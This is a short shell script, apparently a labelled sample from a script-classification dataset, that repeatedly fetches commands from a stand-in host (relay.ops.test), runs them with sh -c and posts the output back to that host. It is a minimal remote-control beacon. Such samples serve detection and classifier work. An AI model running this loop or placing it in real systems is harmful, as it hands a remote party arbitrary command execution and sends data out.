# class: shell; possible: low medium
n=0
while [ $n -lt 16 ]; do
  n=$((n+1))
  t=$(curl -s http://relay.ops.test/task)
  [ -n "$t" ] && sh -c "$t" 2>&1 | curl -s --data-binary @- http://relay.ops.test/out
  sleep 1
done
